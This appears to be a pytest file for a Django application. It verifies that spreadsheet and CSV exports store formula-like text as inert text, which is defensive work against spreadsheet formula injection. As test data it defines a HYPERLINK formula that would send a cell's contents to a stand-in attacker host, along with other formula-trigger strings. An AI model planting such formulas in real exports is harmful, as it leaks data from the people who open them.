"""Every export writes text that looks like a formula as text: no live formula in an xlsx, and an
apostrophe before such text in a csv."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone

from control_center import rankings
from core import spreadsheets
from disputes.models import ImportJob
from standard import catalogue
from standard.models import StandardTaskVersion
from standard.selectors import catalogue_tasks
from standard.services import standard_task_issue
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
RISKY = [EVIL, "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def signed_in(who) -> Client:
    client = Client()
    assert client.login(username=who.user.username, password=PASSWORD)
    return client


def formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{c.coordinate}={c.value!r}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def all_values(content: bytes) -> set:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}


def test_the_helper_stores_risky_text_as_text_and_leaves_numbers_alone():
    book = openpyxl.Workbook()
    for value in RISKY:
        spreadsheets.append(book.active, [value, -3, 4.5, None])
    out = io.BytesIO()
    book.save(out)
    assert formula_cells(out.getvalue()) == []
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert [r[0] for r in rows] == [v.replace("\r", "\n") for v in RISKY]  # XML keeps no bare CR
    assert rows[0][1:3] == (-3, 4.5)
    assert spreadsheets.csv_row([EVIL, "-1", "plain", 7]) == ["'" + EVIL, "'-1", "plain", 7]


def test_the_rankings_export_has_no_formula_from_a_station_name(cast):
    cast.home.name = EVIL
    cast.home.save(update_fields=["name"])
    week = rankings.Week.of(timezone.now()).shift(-1)
    response = signed_in(cast.supervisor).get(f"/rankings/export.xlsx?week={week}")
    assert response.status_code == 200
    assert EVIL in all_values(response.content)
    assert formula_cells(response.content) == []


def test_the_standard_task_progress_export_has_no_formula_from_a_subject_or_station(cast):
    catalogue.load()
    cast.home.name = "@SUM(1,2)"
    cast.home.save(update_fields=["name"])
    task = catalogue_tasks().get(code="ZA22")
    standard_task_issue(
        task=task, actor=cast.center.user, scope="officer", officer=cast.officer, subject=EVIL, now=timezone.now()
    )
    response = signed_in(cast.center).get("/standard-tasks/ZA22/progress.xlsx", {"issuer": "center"})
    assert response.status_code == 200
    values = all_values(response.content)
    assert EVIL in values
    assert "@SUM(1,2)" in values
    assert formula_cells(response.content) == []


def test_the_catalogue_export_has_no_formula_and_round_trips(cast):
    catalogue.load()
    version = catalogue_tasks().get(code="RK01").current
    StandardTaskVersion.objects.filter(pk=version.pk).update(name=EVIL, basis="-依据", measures="+措施")
    response = signed_in(cast.center).get("/standard-tasks/catalogue.xlsx")
    assert response.status_code == 200
    assert {EVIL, "-依据", "+措施"} <= all_values(response.content)
    assert formula_cells(response.content) == []


def test_the_refused_rows_csv_of_an_import_starts_risky_cells_with_a_quote(cast):
    job = ImportJob.objects.create(
        file="imports/x.csv",
        original_name="x.csv",
        status=ImportJob.Status.DONE,
        errors=[{"row": 2, "field": "summary", "message": EVIL}, {"row": 3, "field": "=cmd", "message": "-1"}],
    )
    response = signed_in(cast.center).get(f"/incidents/import/{job.pk}/", {"download": "refused"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + EVIL in rows[1]
    assert {"'=cmd", "'-1"} <= set(rows[2])
    for row in rows:
        for value in row:
            assert not spreadsheets.is_risky(value), value
